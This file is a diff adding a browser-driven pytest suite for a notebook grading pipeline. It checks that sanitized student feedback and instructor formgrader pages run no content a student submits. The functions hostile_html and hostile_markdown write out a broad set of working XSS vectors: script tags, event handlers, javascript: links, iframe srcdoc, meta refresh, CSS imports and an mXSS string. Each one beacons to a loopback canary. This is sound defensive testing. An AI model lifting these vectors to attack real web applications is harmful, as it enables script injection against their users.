@@ -1,0 +1,352 @@
+"""The pages people open of a submission run nothing the student handed in (Chromium, about a minute).
+
+One hostile submission (the perfect answers plus markdown and outputs carrying
+scripts, event handlers, javascript: and data: URLs, SVG onload, iframes,
+<meta refresh>, <base>, CSS loads, HTML, SVG, JavaScript and widget outputs) and
+the untouched perfect one are graded in one real pipeline run. Then Chromium opens
+the hostile feedback page as the student would (the file), and formgrader's view of
+the submission as the instructor, logged in with the server's token (a real Jupyter
+server started in a folder laid out like this checkout, with its nbgrader_config.py).
+Every payload tries to change document.title, set window.__pwned and fetch a canary
+on another loopback port; none may, and a hostile page asks the servers for nothing
+the clean page does not. A control renders the same notebook with nbgrader's templates
+and nbconvert's defaults: there the payloads fire, so the canary is live.
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import re
+import shutil
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from browser_helpers import REPO, JupyterLab, chromium, require_chromium
+from servelab.grading import course, pipeline, safe_html
+
+pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900)]
+
+LESSON = course.get("lesson25")
+PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
+LEARNER_WORDS = ["My working, in my own words", "tokens in flight", "a &lt; b"]  # markdown the learner wrote
+
+
+# --- the canary: a loopback server that records every request a payload gets out ------------------
+class Canary(http.server.ThreadingHTTPServer):
+    def __init__(self):
+        super().__init__(("127.0.0.1", 0), _CanaryHandler)
+        self.hits: list[str] = []
+        self.hit = threading.Condition()
+
+    def record(self, path: str) -> None:
+        with self.hit:
+            self.hits.append(path)
+            self.hit.notify_all()
+
+    def wait_for_script(self, since: int, timeout: float = 30) -> list[str]:
+        """Block until a payload's script has called in after hit number `since` (or the timeout); the new hits."""
+        with self.hit:
+            self.hit.wait_for(lambda: any(h.startswith("/ran-") for h in self.hits[since:]), timeout=timeout)
+            return self.hits[since:]
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+class _CanaryHandler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):  # noqa: N802 - http.server's name
+        self.server.record(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "text/plain")
+        self.end_headers()
+        self.wfile.write(b"canary")
+
+    do_POST = do_GET
+
+    def log_message(self, *args):
+        pass
+
+
+def payload_js(canary: str, tag: str) -> str:
+    """What each payload runs if it can: all three are checked."""
+    return f"document.title='pwned';window.__pwned=(window.__pwned||0)+1;fetch('{canary}/ran-{tag}')"
+
+
+def hostile_html(canary: str, where: str) -> str:
+    """HTML that tries every way a page can be made to run, load or navigate."""
+    js = lambda tag: payload_js(canary, f"{where}-{tag}")  # noqa: E731
+    data_page = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
+    return "\n".join([
+        f"<script>{js('script')}</script>",
+        f'<img src="x" onerror="{js("img-onerror")}">',
+        f'<body onload="{js("body-onload")}">',
+        f'<svg onload="{js("svg-onload")}"><circle r="4"/></svg>',
+        f"<svg><script>{js('svg-script')}</script></svg>",
+        f'<a href="javascript:{js("js-link")}">a javascript: link</a>',
+        f'<a href="{data_page}">a data: link</a>',
+        f'<iframe src="{canary}/iframe"></iframe>',
+        f'<iframe srcdoc="<script>{js("srcdoc")}</script>"></iframe>',
+        f'<meta http-equiv="refresh" content="0;url={canary}/meta-refresh">',
+        f'<base href="{canary}/base/">',
+        f'<style>@import url("{canary}/import.css"); body {{ background: url("{canary}/bg.png") }}</style>',
+        f"<div style=\"background-image: url('{canary}/style-attribute.png')\">a styled div</div>",
+        f'<link rel="stylesheet" href="{canary}/link.css">',
+        f'<object data="{canary}/object"></object><embed src="{canary}/embed">',
+        f'<form action="{canary}/form"><input autofocus onfocus="{js("autofocus")}"><button>go</button></form>',
+        f'<img src="{canary}/remote.png"><input type="image" src="{canary}/input-image">',
+        f'<details open ontoggle="{js("ontoggle")}"><summary>details</summary></details>',
+        f'<video><source onerror="{js("video-onerror")}"></video>',
+        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{js('mxss')}\">",
+        f'<noscript><p title="</noscript><img src=x onerror={js("noscript")}>"></noscript>',
+    ])
+
+
+def hostile_markdown(canary: str, where: str) -> str:
+    """The learner's own readable markdown, then markdown's own ways to link and load, then raw HTML."""
+    return "\n\n".join([
+        "## My working, in my own words",
+        "The cache grows with the **tokens in flight**; note that `a < b` here.",
+        "| batch | tokens |\n|---|---|\n| 8 | 128 |",
+        f"![a remote picture]({canary}/markdown-image.png) and [a markdown link](javascript:{payload_js(canary, where + '-md-link')})",
+        hostile_html(canary, where),
+    ])
+
+
+def hostile_outputs_cell(canary: str) -> str:
+    """A code cell whose outputs carry HTML, SVG, JavaScript, markdown, a widget and file-naming metadata."""
+    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload_js(canary, "svg-output-onload")}">'
+           f'<script>{payload_js(canary, "svg-output-script")}</script><image href="{canary}/svg-image.png"/></svg>')
+    return "\n".join([
+        "from IPython.display import HTML, SVG, Javascript, Markdown, display, publish_display_data",
+        f"display(HTML({json.dumps(hostile_html(canary, 'html-output'))}))",
+        f"display(HTML({json.dumps(hostile_html(canary, 'isolated-output'))}, metadata={{'isolated': True}}))",
+        f"display(SVG({json.dumps(svg)}))",
+        f"display(Javascript({json.dumps(payload_js(canary, 'javascript-output'))}))",
+        f"display(Markdown({json.dumps(hostile_markdown(canary, 'markdown-output'))}))",
+        f"publish_display_data({{'image/png': {PNG_1PX!r}, 'text/plain': 'a picture'}},",
+        f"                     metadata={{'filenames': {{'image/png': '{canary}/filenames.png'}}}})",
+        "publish_display_data({'application/vnd.jupyter.widget-view+json': {'model_id': 'x', 'version_major': 2,",
+        "                      'version_minor': 0}, 'text/plain': 'a widget'})",
+        f"print({json.dumps('<script>' + payload_js(canary, 'stream') + '</script>')})",
+    ])
+
+
+def hostile_submission(canary: str) -> nbformat.NotebookNode:
+    """The perfect sample with payloads in its written answer, a markdown cell and a cell's outputs."""
+    nb = nbformat.read(REPO / "grading" / "submissions" / "lesson25" / "perfect.ipynb", as_version=4)
+    for cell in nb.cells:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "warmup1-explain":
+            cell.source += "\n\n" + hostile_markdown(canary, "answer")
+    nb.cells[2:2] = [nbformat.v4.new_markdown_cell(hostile_markdown(canary, "markdown")),
+                     nbformat.v4.new_code_cell(hostile_outputs_cell(canary))]
+    return nb
+
+
+# --- one grading run, in a folder laid out like this checkout ---------------------------------------
+@pytest.fixture(scope="module")
+def canary():
+    server = Canary()
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory, canary):
+    """The instructor's folder (the checkout's nbgrader configs, the course in grading/course) and the run's output."""
+    tmp = tmp_path_factory.mktemp("pages")
+    instructor = tmp / "instructor"
+    (instructor / "grading").mkdir(parents=True)
+    shutil.copy(REPO / "nbgrader_config.py", instructor / "nbgrader_config.py")
+    shutil.copy(course.CONFIG, instructor / "grading" / "nbgrader_config.py")
+    (instructor / "solutions").symlink_to(course.SOLUTIONS)
+    subs = tmp / "submissions" / LESSON.name
+    subs.mkdir(parents=True)
+    shutil.copy(REPO / "grading" / "submissions" / LESSON.name / "perfect.ipynb", subs / "perfect.ipynb")
+    nbformat.write(hostile_submission(canary.url), subs / "hostile.ipynb")
+    results = pipeline.run(subs.parent, instructor / "grading" / "course", tmp / "out", assignments=[LESSON],
+                           cell_timeout=30, submission_timeout=240, log=lambda *a: None)
+    by_student = {g.student: g for g in results}
+    assert all(g.status == "graded" for g in results), [g.log_tail for g in results]
+    return {"results": by_student, "instructor": instructor, "out": tmp / "out", "tmp": tmp}
+
+
+@pytest.fixture(scope="module")
+def browser():
+    require_chromium()
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p, chromium(p) as context:
+        yield context
+
+
+def open_and_record(context, url: str, *allowed: str):
+    """Open a page, let it settle, and return it with every URL it asked for.
+
+    Only URLs starting with one of `allowed` are served (the page's own server and the
+    canary); the rest (the templates' CDN scripts) fail at once on this closed network.
+    """
+    requested: list[str] = []
+    page = context.new_page()
+    page.on("request", lambda r: requested.append(r.url))
+    page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(allowed) else route.abort())
+    page.goto(url, wait_until="load", timeout=60_000)
+    page.wait_for_load_state("networkidle", timeout=60_000)
+    return page, requested
+
+
+def page_state(page) -> dict:
+    """What a payload would have changed, and what in the notebook could still run or load."""
+    return page.evaluate(r"""() => {
+        const root = document.querySelector('#notebook-container') || document.body;
+        const all = Array.from(root.querySelectorAll('*'));
+        return {
+            title: document.title,
+            pwned: window.__pwned === undefined ? null : window.__pwned,
+            handlers: all.filter(e => Array.from(e.attributes).some(a => a.name.startsWith('on'))).length,
+            dangerous: root.querySelectorAll('script, iframe, object, embed, base, meta, link, style, form, svg').length,
+            urls: all.flatMap(e => ['href', 'src', 'action', 'srcdoc', 'style'].map(a => [a, e.getAttribute(a)]))
+                     .filter(([a, v]) => v && (a === 'style' ? /url\(/i.test(v)
+                              : !v.startsWith('#') && !v.startsWith('data:image/') && !/^(https?:|mailto:)/.test(v)))
+                     .map(([a, v]) => a + '=' + v),
+            text: document.body.innerText,
+        };
+    }""")
+
+
+def same_origin_paths(requested: list[str], origin: str, submission_id: str | None = None) -> set[str]:
+    paths = {u[len(origin):].split("?")[0] for u in requested if u.startswith(origin)}
+    return {p.replace(submission_id, "<id>") for p in paths} if submission_id else paths
+
+
+# --- the student's feedback page ----------------------------------------------------------------------
+def test_the_feedback_page_runs_and_loads_nothing_the_student_wrote(graded, browser, canary):
+    out = graded["out"] / "feedback" / LESSON.name
+    clean, clean_requests = open_and_record(browser, (out / "perfect.html").as_uri(), "file://", canary.url)
+    clean_state = page_state(clean)
+    hits_before = list(canary.hits)
+    page, requested = open_and_record(browser, (out / "hostile.html").as_uri(), "file://", canary.url)
+    state = page_state(page)
+    assert canary.hits == hits_before == [], canary.hits
+    assert state["title"] == clean_state["title"] == LESSON.notebook_id and state["pwned"] is None
+    assert state["handlers"] == 0 and state["dangerous"] == 0 and state["urls"] == [], state
+    # Requests the page makes itself (the template's MathJax and the like) and nothing more.
+    assert {u for u in requested if not u.startswith("file://")} <= {u for u in clean_requests
+                                                                      if not u.startswith("file://")}
+    # Still readable: the learner's markdown and the checkers' words for a right answer.
+    html = (out / "hostile.html").read_text()
+    for words in LEARNER_WORDS:
+        assert words in html, words
+    assert "My working, in my own words" in state["text"] and "tokens in flight" in state["text"]
+    perfect = graded["results"]["perfect"]
+    hostile = graded["results"]["hostile"]
+    assert hostile.score == perfect.score > 0 and hostile.tests == perfect.tests
+    for grade_id, said in hostile.feedback.items():  # "KV cache bytes per token: correct (131,072 bytes)." ...
+        assert said.splitlines()[0].strip() in state["text"], grade_id
+    for page_ in (clean, page):
+        page_.close()
+
+
+# --- formgrader, in the instructor's own Jupyter server -----------------------------------------------
+@pytest.fixture(scope="module")
+def formgrader(graded, browser):
+    """A Jupyter server started in the instructor's folder (its nbgrader_config.py); the browser logged in to it."""
+    with JupyterLab(graded["instructor"], copy=()) as server:
+        page = browser.new_page()
+        page.goto(f"{server.base_url}/login", timeout=60_000)
+        page.fill("input[name=password]", server.token)  # the login form takes the server's token
+        page.locator("#login_submit").click()
+        page.wait_for_url(lambda url: "/login" not in url, timeout=60_000)
+        page.close()
+        yield server
+
+
+def submission_id(graded, student: str) -> str:
+    from nbgrader.api import Gradebook
+
+    root = graded["instructor"] / "grading" / "course"
+    with Gradebook(pipeline.gradebook_url(root)) as gb:
+        return gb.find_submission_notebook(LESSON.notebook_id, LESSON.name, student).id
+
+
+def test_formgraders_view_of_a_submission_runs_nothing_the_student_wrote(graded, formgrader, browser, canary):
+    origin = formgrader.base_url
+    ids = {s: submission_id(graded, s) for s in ("perfect", "hostile")}
+    views = {}
+    for student in ("perfect", "hostile"):
+        page, requested = open_and_record(browser, f"{origin}/formgrader/submissions/{ids[student]}/", origin,
+                                          canary.url)
+        views[student] = (page, requested, page_state(page))
+    clean, clean_requests, clean_state = views["perfect"]
+    page, requested, state = views["hostile"]
+    assert canary.hits == [], canary.hits
+    assert state["title"] == clean_state["title"] == LESSON.notebook_id and state["pwned"] is None
+    assert state["handlers"] == 0 and state["dangerous"] == 0 and state["urls"] == [], state
+    assert same_origin_paths(requested, origin, ids["hostile"]) <= same_origin_paths(clean_requests, origin,
+                                                                                     ids["perfect"])
+    assert {u for u in requested if not u.startswith(origin)} <= {u for u in clean_requests
+                                                                  if not u.startswith(origin)}
+    # formgrader's own page still works: a score box per graded cell, showing the autograde its script fetched.
+    auto_scores = "() => Array.from(document.querySelectorAll('input.score')).map(e => e.placeholder)"
+    scores = page.evaluate(auto_scores)
+    assert scores == clean.evaluate(auto_scores) and len(scores) > 0
+    assert any(float(v or 0) > 0 for v in scores), scores
+    assert "My working, in my own words" in state["text"]
+    for page_, _, _ in views.values():
+        page_.close()
+
+
+# --- the control: without the course's settings the same payloads fire ---------------------------------
+def test_the_payloads_fire_where_nothing_cleans_them(graded, browser, canary, tmp_path):
+    """nbgrader's feedback and formgrade templates with nbconvert's defaults: the canary is reached."""
+    try:
+        fired = _render_plainly_and_open(graded, browser, canary, tmp_path)
+    finally:
+        canary.hits.clear()  # the control's hits are its own
+    for template, hits in fired.items():
+        assert any(h.startswith("/ran-") for h in hits), (template, hits)  # a script ran
+        assert "/remote.png" in hits and "/import.css" in hits, (template, hits)  # and the page loaded from outside
+
+
+def _render_plainly_and_open(graded, browser, canary, tmp_path) -> dict:
+    from nbconvert.exporters import HTMLExporter
+    from nbgrader.server_extensions.formgrader import handlers
+
+    autograded = graded["instructor"] / "grading" / "course" / "autograded" / "hostile" / LESSON.name
+    fired = {}
+    for template in ("feedback", "formgrade"):
+        exporter = HTMLExporter(template_name=template, extra_template_basedirs=[handlers.template_path],
+                                extra_template_paths=[str(Path(handlers.static_path) / "node_modules" / "bootstrap"
+                                                          / "dist" / "css")])  # as generate_feedback sets it
+        nb = nbformat.read(autograded / LESSON.notebook, as_version=4)
+        for cell in nb.cells:  # plain cells: the templates' grading panels need the gradebook's values
+            cell.metadata.pop("nbgrader", None)
+        html, _ = exporter.from_notebook_node(nb, resources={"nbgrader": {
+            "notebook": LESSON.notebook_id, "score": 0, "max_score": 0, "late_penalty": 0}, "index": 0, "total": 1})
+        path = tmp_path / f"{template}.html"
+        path.write_text(html)
+        before = len(canary.hits)
+        page, _ = open_and_record(browser, path.as_uri(), "file://", canary.url)
+        fired[template] = canary.wait_for_script(before)  # the page itself is gone: <meta refresh> left it
+        page.close()
+    return fired
+
+
+def test_the_sanitizer_keeps_what_a_learner_writes():
+    """Unit: the policy keeps text, tables, code highlighting and data: images; drops what runs or loads."""
+    kept = safe_html.sanitize('<h2 id="x">Title</h2><table><tr><td>1</td></tr></table>'
+                              '<div class="highlight navbar"><span class="k btn">def</span></div>'
+                              f'<img src="data:image/png;base64,{PNG_1PX}"><a href="https://docs.vllm.ai">docs</a>')
+    assert "<h2>Title</h2>" in kept and "<td>1</td>" in kept
+    assert 'class="highlight"' in kept and 'class="k"' in kept and "navbar" not in kept and "btn" not in kept
+    assert f"base64,{PNG_1PX}" in kept and 'href="https://docs.vllm.ai"' in kept
+    for bad in ('<img src="http://127.0.0.1:9/x.png">', '<a href="evil.html">x</a>', '<a href="javascript:x()">x</a>',
+                '<p style="color:red">x</p>', '<base href="http://x/">', '<img src="data:text/html,x">'):
+        assert not re.search(r'(src|href|style)=', safe_html.sanitize(bad)), bad
